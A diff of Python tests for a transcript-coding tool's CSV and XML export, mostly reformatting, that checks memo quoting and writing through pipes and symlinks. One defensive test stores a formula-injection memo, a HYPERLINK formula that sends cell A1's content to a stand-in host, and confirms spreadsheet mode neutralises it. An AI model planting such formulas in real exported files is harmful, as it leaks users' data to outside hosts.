@@ -25,14 +25,33 @@ def export(study: Path, *args: str) -> list[dict[str, str]]:
 def test_tidy_rows_one_per_code_and_reviewed_turns_without_codes_kept(demo_study: Path) -> None:
     rows = export(demo_study, "--coder", "ana")
     assert list(rows[0]) == [
-        "transcript", "turn", "start", "speaker", "role", "session", "date", "group", "coder", "memo", "code", "code_label", "code_group",
+        "transcript",
+        "turn",
+        "start",
+        "speaker",
+        "role",
+        "session",
+        "date",
+        "group",
+        "coder",
+        "memo",
+        "code",
+        "code_label",
+        "code_group",
     ]
     turn_1 = [r for r in rows if (r["transcript"], r["turn"]) == ("grp1-s01", "1")]
     assert turn_1 == [dict(turn_1[0], code="", code_label="", code_group="")]  # reviewed, no code: one row, empty code
     turn_6 = [r["code"] for r in rows if (r["transcript"], r["turn"]) == ("grp1-s01", "6")]
     assert turn_6 == ["reframing", "education"]
     row = next(r for r in rows if (r["transcript"], r["turn"]) == ("grp1-s01", "3"))
-    assert (row["speaker"], row["role"], row["session"], row["start"], row["date"], row["group"]) == ("Participant 1", "participant", "01", "30.0", "2024-03-04", "1")
+    assert (row["speaker"], row["role"], row["session"], row["start"], row["date"], row["group"]) == (
+        "Participant 1",
+        "participant",
+        "01",
+        "30.0",
+        "2024-03-04",
+        "1",
+    )
     assert len({(r["transcript"], r["turn"]) for r in rows}) == 40  # every turn ana reviewed
 
 
@@ -46,7 +65,9 @@ def test_wide_has_a_zero_one_column_per_code(demo_study: Path) -> None:
 
 def test_awkward_memos_survive_quoting(demo_study: Path) -> None:
     memo = 'She said "no, not today",\nthen laughed; ünïcode 好'
-    AnnotationFile.open(demo_study / "transcripts" / "grp1-s01.cal.jsonl").put(AnnotationRecord(2, ("education",), memo))
+    AnnotationFile.open(demo_study / "transcripts" / "grp1-s01.cal.jsonl").put(
+        AnnotationRecord(2, ("education",), memo)
+    )
     rows = export(demo_study, "--coder", "cal")
     assert rows[0]["memo"] == memo
     export(demo_study, "--coder", "cal", "-o", "out.csv")
@@ -65,7 +86,13 @@ def test_an_output_that_is_a_pipe_or_a_link_is_written_through_never_replaced(de
     received: list[bytes] = []
     reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
     reader.start()
-    subprocess.run([sys.executable, "-m", "purer_tui", "export", "csv", "-o", str(fifo)], cwd=demo_study, check=True, capture_output=True, timeout=60)
+    subprocess.run(
+        [sys.executable, "-m", "purer_tui", "export", "csv", "-o", str(fifo)],
+        cwd=demo_study,
+        check=True,
+        capture_output=True,
+        timeout=60,
+    )
     reader.join(timeout=30)
     assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and received[0].startswith(b"transcript,turn,")
     real = tmp_path / "real.csv"
@@ -73,18 +100,33 @@ def test_an_output_that_is_a_pipe_or_a_link_is_written_through_never_replaced(de
     link = tmp_path / "link.csv"
     link.symlink_to(real)
     for target in (link, "-"):
-        result = subprocess.run([sys.executable, "-m", "purer_tui", "export", "qdc", "-o", str(target)], cwd=demo_study, capture_output=True, timeout=60)
+        result = subprocess.run(
+            [sys.executable, "-m", "purer_tui", "export", "qdc", "-o", str(target)],
+            cwd=demo_study,
+            capture_output=True,
+            timeout=60,
+        )
         assert result.returncode == 0
     assert link.is_symlink() and real.read_bytes().startswith(b"<?xml")
-    assert result.stdout.startswith(b"<?xml") and b"Wrote standard output" in result.stderr and not (demo_study / "-").exists()
+    assert (
+        result.stdout.startswith(b"<?xml")
+        and b"Wrote standard output" in result.stderr
+        and not (demo_study / "-").exists()
+    )
 
 
 def test_spreadsheet_mode_keeps_formulas_inert_and_the_default_keeps_the_data(demo_study: Path) -> None:
-    memo = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"
+    memo = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
     store = AnnotationFile.open(demo_study / "transcripts" / "grp1-s01.ana.jsonl")
     store.put(store.get(1)._replace(memo=memo))
-    exact = next(row for row in export(demo_study, "--coder", "ana") if row["turn"] == "1" and row["transcript"] == "grp1-s01")
+    exact = next(
+        row for row in export(demo_study, "--coder", "ana") if row["turn"] == "1" and row["transcript"] == "grp1-s01"
+    )
     assert exact["memo"] == memo  # R and pandas get the data as written
     for args in ([], ["--wide"]):
-        safe = next(row for row in export(demo_study, "--coder", "ana", "--spreadsheet", *args) if row["turn"] == "1" and row["transcript"] == "grp1-s01")
+        safe = next(
+            row
+            for row in export(demo_study, "--coder", "ana", "--spreadsheet", *args)
+            if row["turn"] == "1" and row["transcript"] == "grp1-s01"
+        )
         assert safe["memo"] == "'" + memo and safe["speaker"] == "Therapist"  # a spreadsheet shows it, never runs it
